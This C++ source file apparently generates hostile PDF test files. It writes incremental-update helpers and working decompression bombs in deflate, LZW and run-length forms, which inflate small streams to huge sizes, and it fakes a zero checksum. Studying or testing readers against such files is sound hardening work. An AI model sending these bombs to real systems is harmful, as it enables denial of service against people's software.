// SPDX-License-Identifier: GPL-3.0-or-later
#include "file_parts.h"

#include <algorithm>
#include <charconv>
#include <cstddef>
#include <stdexcept>

#include <fmt/format.h>
#include <zlib.h>

namespace kehoach::hostile {
namespace {

// A raw deflate stream of `data`. `flush`: Z_FINISH ends it; Z_FULL_FLUSH leaves it open at a byte
// boundary and free of references to what stands before, so that pieces can be put in a row.
std::string RawDeflate(std::string_view data, int flush) {
  z_stream z{};
  constexpr int kRaw = -15, kMemory = 9;
  // Files are made anew each time, so most are packed fast; the pieces of bombs are small.
  const int level = flush == Z_FINISH ? Z_BEST_SPEED : Z_BEST_COMPRESSION;
  if (deflateInit2(&z, level, Z_DEFLATED, kRaw, kMemory, Z_DEFAULT_STRATEGY) != Z_OK) {
    throw std::runtime_error("zlib cannot be started");
  }
  std::string out(deflateBound(&z, static_cast<uLong>(data.size())) + 64, '\0');
  // zlib takes a pointer to non-const and does not write there.
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  z.avail_in = static_cast<uInt>(data.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  deflate(&z, flush);
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}

// What one piece of a bomb inflates to, nearly.
constexpr std::size_t kPiece = std::size_t{4} << 20;
constexpr std::string_view kZlibHead = "\x78\xDA";
// The checksum behind the data, which readers of PDF do not look at.
constexpr std::string_view kNoChecksum{"\0\0\0\0", 4};

}  // namespace

std::string Repeat(std::string_view text, std::size_t times) {
  std::string out;
  out.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) out += text;
  return out;
}

std::size_t LastXRef(std::string_view file) {
  constexpr std::string_view kWord = "startxref";
  const std::size_t at = file.rfind(kWord);
  std::size_t place = 0;
  if (at == std::string_view::npos) return place;
  const char* const digits = file.data() + at + kWord.size() + 1;
  std::from_chars(digits, file.data() + file.size(), place);
  return place;
}

std::string Update(const std::string& file, const std::map<int, std::string>& objects,
                   const std::string& trailer_entries, int size) {
  std::string out = file, table = "xref\n";
  for (const auto& [number, body] : objects) {
    table += fmt::format("{} 1\n{:010} 00000 n \n", number, out.size());
    out += fmt::format("{} 0 obj\n{}\nendobj\n", number, body);
  }
  const std::size_t start = out.size();
  out +=
      table + fmt::format("trailer << {} /Size {} /Root 1 0 R /Prev {} >>\nstartxref\n{}\n%%EOF\n",
                          trailer_entries, size, LastXRef(file), start);
  return out;
}

std::string StreamBody(const std::string& entries, std::string_view data) {
  return fmt::format("<< {} /Length {} >>\nstream\n{}\nendstream", entries, data.size(), data);
}

std::string Deflate(std::string_view data) {
  return std::string(kZlibHead) + RawDeflate(data, Z_FINISH) + std::string(kNoChecksum);
}

std::string DeflatedPiece(std::string_view unit) {
  return RawDeflate(Repeat(unit, std::max<std::size_t>(1, kPiece / unit.size())), Z_FULL_FLUSH);
}

std::string DeflateBomb(std::string_view unit, std::uint64_t bytes, std::string_view prefix) {
  std::string out(kZlibHead);
  if (!prefix.empty()) out += RawDeflate(prefix, Z_FULL_FLUSH);
  const std::size_t expanded = std::max<std::size_t>(1, kPiece / unit.size()) * unit.size();
  out += Repeat(DeflatedPiece(unit), static_cast<std::size_t>(bytes / expanded + 1));
  return out + RawDeflate("", Z_FINISH) + std::string(kNoChecksum);
}

std::string LzwBomb(unsigned char value, std::uint64_t bytes) {
  // ISO 32000-1, 7.4.4, EarlyChange 1. Each code names a run one longer than the one before: a
  // table filled this way holds runs of 2 to 3838. Then it is cleared and filled again.
  constexpr unsigned kClear = 256, kFirst = 258, kLast = 4094;
  const auto width_of = [](unsigned code) {
    return code + 1 < 512 ? 9u : code + 1 < 1024 ? 10u : code + 1 < 2048 ? 11u : 12u;
  };
  std::string round;
  unsigned buffer = 0, bits = 0;
  const auto put = [&](unsigned code, unsigned width) {
    buffer = buffer << width | code;
    for (bits += width; bits >= 8; bits -= 8) {
      round += static_cast<char>(buffer >> (bits - 8) & 0xFF);
    }
  };
  std::uint64_t expanded = 0;
  for (int i = 0; i < 8; ++i) {  // eight times: a whole number of bytes
    put(value, 9);
    ++expanded;
    for (unsigned code = kFirst; code <= kLast; ++code) {
      put(code, width_of(code));
      expanded += code - kFirst + 2;
    }
    put(kClear, 12);
  }
  return Repeat(round, static_cast<std::size_t>(bytes / expanded + 1));
}

std::string RunLengthBomb(char value, std::uint64_t bytes) {
  const char pair[] = {static_cast<char>(129), value};  // 128 times the value
  return Repeat({pair, 2}, static_cast<std::size_t>(bytes / 128 + 1));
}

}  // namespace kehoach::hostile
